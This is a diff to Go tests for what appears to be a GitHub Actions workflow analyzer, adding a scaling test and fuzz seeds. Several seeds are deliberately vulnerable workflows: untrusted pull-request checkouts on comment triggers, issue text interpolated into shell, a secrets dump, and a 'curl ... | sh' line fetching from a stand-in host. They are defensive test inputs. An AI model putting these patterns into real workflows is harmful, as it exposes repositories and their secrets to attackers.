@@ -169,6 +169,30 @@ func TestManyJobs(t *testing.T) {
 	}
 }
 
+// TestManySteps: the time that steps take grows with their number, whatever they fetch, check out or name.
+func TestManySteps(t *testing.T) {
+	for name, step := range map[string]string{
+		"fetching":          "      - run: 'git fetch origin pull/$N/head'\n",
+		"by outputs":        "      - {id: s, uses: actions/checkout@v4, with: {ref: '${{ steps.s.outputs.o }}'}}\n",
+		"by actions":        "      - {id: s, uses: ./x, with: {r: '${{ steps.s.outputs.o }}'}}\n",
+		"in their folders":  "      - {uses: actions/checkout@v4, with: {ref: '${{ github.head_ref }}', path: p%d}}\n",
+		"with long scripts": "      - {id: s, run: 'echo ${{ steps.s.outputs.o }} head'}\n",
+	} {
+		var content strings.Builder
+		content.WriteString("on: issue_comment\njobs:\n  a:\n    runs-on: x\n    steps:\n")
+		for i := range 9_000 {
+			content.WriteString(strings.ReplaceAll(step, "%d", fmt.Sprint(i)))
+		}
+		start := time.Now()
+		observe(t, fstest.MapFS{".github/workflows/w.yml": {Data: []byte(content.String())}, "x/action.yml": {Data: []byte(
+			"inputs: {r: {}}\noutputs: {o: {value: '${{ steps.a.outputs.o }}'}}\nruns: {using: composite, steps: [{id: a, uses: actions/checkout@v4, with: {ref: '${{ inputs.r }}'}}]}\n",
+		)}})
+		if took := time.Since(start); took > 10*time.Second {
+			t.Errorf("%s: took %v", name, took)
+		}
+	}
+}
+
 // TestNamesAreBounded: what is passed on is short, on one line, and no control sequence.
 func TestNamesAreBounded(t *testing.T) {
 	long := strings.Repeat("é", 300)
@@ -198,6 +222,8 @@ func FuzzWorkflow(f *testing.F) {
 	f.Add([]byte("on: push\njobs:\n  a: &a\n    runs-on: [x]\n    env: {K: PLANTED_VALUE}\n    steps: [{run: \"PLANTED_VALUE\"}, {uses: a/b, with: {k: PLANTED_VALUE}}]\n  b: *a\n"))
 	f.Add([]byte("\ufeffon: push\r\njobs:\r\n  a:\r\n    runs-on: x\r\n    steps:\r\n      - run: >-\r\n          ä ${{ toJSON(secrets) }}\r\n"))
 	f.Add([]byte("on: [issues, workflow_run]\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          gh run download\n          curl https://a.example \\\n            | sh\n          echo \"$(cat ä)\" >> $GITHUB_ENV\n        env: {K: '${{ fromJSON(secrets.K).ä }}', B: '${{ github.event.issue.body }}'}\n      - {uses: actions/upload-artifact@v3, with: {path: .}}\n"))
+	f.Add([]byte("on: [issue_comment, issues]\njobs: {a: {runs-on: x, steps: [{id: i, uses: ./x, with: {r: '${{ github.event.pull_request.head.sha }}', t: '${{ github.event.issue.title }}'}}, {uses: actions/checkout@v4, with: {ref: '${{ steps.i.outputs.o }}', path: p}}, {run: docker build --build-arg A=$A . && npm ci}]}}\n" +
+		"inputs: {r: {default: '${{ inputs.r }}'}, t: {}}\noutputs: {o: {value: '${{ inputs.r || steps.s.outputs.x }}'}}\nruns: {using: composite, steps: [{id: s, uses: ./x, with: {r: 'a ${{ inputs.r }}}} ${{ inputs[inputs.t] }}'}}, {run: 'echo ${{ inputs.t }}${{ format(inputs.t, env.E) }}', env: {E: '${{ inputs.t }}'}, shell: bash}, {uses: actions/checkout@v4, with: {ref: '${{ inputs[''r''] }}'}}]}\n"))
 	f.Fuzz(func(t *testing.T, data []byte) {
 		files := fstest.MapFS{".github/workflows/w.yml": {Data: data}, "x/action.yml": {Data: data}}
 		seen := observe(t, files)
@@ -207,6 +233,9 @@ func FuzzWorkflow(f *testing.F) {
 			}
 			for _, j := range w.Jobs {
 				textAt(t, files, j.Location)
+				if j.UntrustedCheckout != nil {
+					textAt(t, files, *j.UntrustedCheckout)
+				}
 				for _, s := range j.Steps {
 					textAt(t, files, s.Location)
 				}
